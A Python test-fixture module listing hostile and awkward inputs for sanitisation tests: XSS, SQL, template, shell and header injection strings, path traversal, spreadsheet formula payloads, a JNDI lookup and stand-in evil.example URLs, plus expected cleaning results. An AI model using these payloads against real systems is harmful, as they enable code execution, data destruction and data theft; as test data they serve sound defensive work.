"""Hostile words of our own making, and what becomes of those that are not kept as they are."""

_SCRIPT = [
    "<script>alert(1)</script>", "</script><script>alert(document.domain)</script>",
    "<img src=x onerror=alert(2)>",
    "<svg/onload=alert(3)>", "<svg><animate onbegin=alert(4) attributeName=x>", "<body onload=alert(5)>",
    "<iframe srcdoc='<script>parent.alert(6)</script>'>", "<a href='javascript:alert(7)'>press</a>",
    "javascript:alert(8)", "JaVaScRiPt:alert(9)//", "data:text/html,<script>alert(10)</script>",
    "<math><mtext></mtext><script>alert(11)</script></math>", "<details open ontoggle=alert(12)>",
    "<!--<script>-->",
    "<style>@import'//evil.example'</style>", "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<form action=//evil.example><input name=p>",
    "\"><b>bold</b>", "' autofocus onfocus=alert(13) x='", "\" autofocus onfocus=alert(14) x=\"",
    "`onmouseover=alert(15)`",
    "</textarea><script>alert(16)</script>", "</title><script>alert(17)</script>", "<textarea>",
    "</p></div></main>",
    "<plaintext>", "<![CDATA[<script>alert(18)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>",
    "&lt;script&gt;alert(19)&lt;/script&gt;", "&#60;script&#62;", "&amp;amp;", "&nbsp;", "&#0;",
    "&#x1F600;", "&notanentity;",
    "<ſcript>alert(20)</ſcript>", "＜script＞alert(21)＜/script＞", "\\u003cscript\\u003e",
    "%3Cscript%3Ealert(22)%3C/script%3E",
]  # fmt: skip
_DATABASE = [
    "'", "''", "\"", "';--", "' OR '1'='1", "1; DROP TABLE participant; --", "') OR 1=1 --",
    "' UNION SELECT NULL,NULL--",
    "\\'; SELECT pg_sleep(9); --", "Robert'); DELETE FROM contact;--", "%", "_", "%%", "a%b_c", "\\",
    "\\\\", "\\%", "$1",
    ":name", "?", "%(name)s", "%s", "%d%n%x", "{}", "{0.__class__}", "{name!r}", "$$", "$tag$", "/* */",
    "--", "#",
    "NULL", "null", "None", "undefined", "nil", "true", "false", "NaN", "Infinity", "0", "-1", "1/0",
    "''::int",
    "x' AND 1=(SELECT COUNT(*) FROM user) --", "MATCH 'a*'", "a OR b NOT c", "\"unbalanced", "NEAR(a b)",
    "*", "a*", "^a",
]  # fmt: skip
_TEMPLATE_AND_SHELL = [
    "{{ 7*7 }}", "{{ config }}", "{% for x in ().__class__.__base__.__subclasses__() %}", "{# gone #}",
    "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "${jndi:ldap://evil.example/a}", "$(id)", "`id`", "| id", "; id", "&& id",
    "> /etc/passwd", "!!", "~root",
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/dev/null", "file:///etc/passwd", "C:\\", "CON",
    "NUL", "PRN.txt",
    ".htaccess", "a/b", "a:b", "name\n.pdf", "//evil.example/path", "\\\\evil.example\\share",
    "ftp://evil.example",
    "__proto__", "constructor", "__class__", "__init__", "self", "id", "csrf_token", "None; import os",
    "!!python/object:os.system",
    "Subject: hello\nBcc: all@evil.example", "a\r\nSet-Cookie: session=1", "to@example.org\ncc@example.org",
    "%0d%0aX-Bad: 1",
]  # fmt: skip
_FORMULA_STARTS = ("=", "+", "-", "@", "\t=", "\r=", " =", "＝", "＋", "－", "＠", "'=", "|", "%")
_FORMULAS = ("cmd()", "1+1", 'HYPERLINK("//evil.example","x")', "SUM(A1:A9)", "cmd|'/C calc'!A0")
_SHEET = [start + rest for start in _FORMULA_STARTS for rest in _FORMULAS]
_PEOPLE = [
    "Seán O’Neill", "Sean O'Neill", "Zoë", "Zoe\u0308", "José", "Jose\u0301", "Nguyễn Thị Ánh",
    "Nguye\u0302\u0303n", "Łukasz Żółć",
    "Dvořák", "Þórður", "Ærøskøbing", "Straße", "Iñtërnâtiônàlizætiøn", "İstanbul ı", "ﬁne", "ǅ", "null",
    "Null Nullsson", "True",
    "O", "X Æ A-12", "van der Berg", "d'Arcy-Smith", "Anne  Marie", "MacDonald-O'Brien III", "李雷",
    "山田 太郎",
    "Ольга",
    "محمد", "שלום", "ਸਿੰਘ", "ประยุทธ์", "ᚠᛇᚻ", "𝔉𝔯𝔞𝔫𝔷", "𠜎𠜱", "😀", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇬🇧", "👍🏽", "☃", "½",
    "①", "Ⅷ", "℡", "™",
    "Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogoch", "Ŵ ŵ Ŷ ŷ", "Àéîõü", "À́̂", "q̣̇",
    "Z̸͖͝a̵l̷g̶o̴",
    "Penistone", "Scunthorpe", "Cockburn", "Dick", "Gaylord", "Essex",
]  # fmt: skip
_NUMBERLIKE = [
    "1e999999", "1E+10", "0x1F", "0b11", "1_000", "1,000", "1.000,00", "٣٤", "１２３", "२३", "𝟗", "3 1/2",
    "½",
    "1e-5", "--5", "+-5",
    "2026-02-31", "31/02/2026", "00000000000000000000", "9" * 60, "0.1" + "0" * 60, "1 2 3", "01", "1.",
    ".5", "5%", "£5", "5p",
]  # fmt: skip
_SPACES = [f"a{each}b" for each in (
    "\t", "\n", "\n\n\n", "\r\n", "\r", "\u0085", "\u00a0", "\u00ad", "\u1680", "\u180e", "\u2000",
    "\u2003", "\u2007", "\u200b",
    "\u200c", "\u200d", "\u200e", "\u200f", "\u2028", "\u2029", "\u202a", "\u202e", "\u202c", "\u202f",
    "\u205f", "\u2060", "\u2066",
    "\u2069", "\u206a", "\u3000", "\u3164", "\ufe0f", "\ufeff", "\ufff9", "\ufffc", "\ufffd", "\ufffe",
    "\uffff", "\U000e0041",
    "\U0010ffff", "\x7f", "\x80", "\x9f", "\u2800",
)]  # fmt: skip
_CONTROLS = [f"a{chr(code)}b" for code in range(32)]
_BLANKS = [
    "",
    " ",
    "\t",
    "\n",
    "   \n\t ",
    "\u00a0",
    "\u3000",
    "\u200b",
    "\u200b\u200d",
    "\ufeff",
    "\x00",
    "\x00\x01",
    "\u202e",
    "\u00ad",
]
_BROKEN = ["\ud800", "a\udc00b", "\udfff\ud800", "a\ud83d", "\ude00b"]
_LONG = [
    "x" * 200, "x" * 201, "é" * 201, "x " * 150, "x" * 20_000, "x" * 20_001, "x" * 50_000, "word " * 10_000,
    "\n" * 30_000 + "x", "(" * 5_000, "<b>" * 5_000, "a\u0301" * 15_000, "e" + "\u0301" * 5_000,
    "e" + "\u0301\u0316" * 10_000, "\u0301" * 30_000, "😀" * 20_000, "\u1100\u1161" * 300, "ﷺ" * 199,
    "W" * 120 + "\u0300",
]  # fmt: skip
_ALL = (
    _SCRIPT + _DATABASE + _TEMPLATE_AND_SHELL + _SHEET + _PEOPLE + _NUMBERLIKE
    + _SPACES + _CONTROLS + _BLANKS + _BROKEN + _LONG
)  # fmt: skip

HOSTILE_TEXT: tuple[str, ...] = tuple(dict.fromkeys(_ALL))

REFUSED = None
# (typed, what one line of text becomes, what a note becomes)
TEXT_VERDICTS: tuple[tuple[str, str | None, str | None], ...] = (
    ("<script>alert(1)</script>", "<script>alert(1)</script>", "<script>alert(1)</script>"),
    ("=cmd()", "=cmd()", "=cmd()"),
    ("Zoe\u0308", "Zoë", "Zoë"),
    ("Nguye\u0302\u0303n", "Nguyễn", "Nguyễn"),
    ("ﬁne", "ﬁne", "ﬁne"),
    ("a\x00b", "ab", "ab"),
    ("a\x1bb", "ab", "ab"),
    ("a\x0bb", "ab", "ab"),
    ("e\x00\u0301", "é", "é"),
    ("a\tb", "a\tb", "a\tb"),
    ("a\nb", "a b", "a\nb"),
    ("a\r\nb", "a b", "a\nb"),
    ("a\rb", "a b", "a\nb"),
    ("a\u202eb", "a\u202eb", "a\u202eb"),
    ("  a  ", "a", "a"),
    ("\ud800", REFUSED, REFUSED),
    ("a\udc00b", REFUSED, REFUSED),
    ("", REFUSED, REFUSED),
    ("\u200b", REFUSED, REFUSED),
    ("\x00\x01", REFUSED, REFUSED),
    ("x" * 200, "x" * 200, "x" * 200),
    ("x" * 201, REFUSED, "x" * 201),
    ("x" * 20_000, REFUSED, "x" * 20_000),
    ("x" * 20_001, REFUSED, REFUSED),
    ("x" * 50_000, REFUSED, REFUSED),
    ("e" + "\u0301\u0316" * 10_000, REFUSED, REFUSED),
)
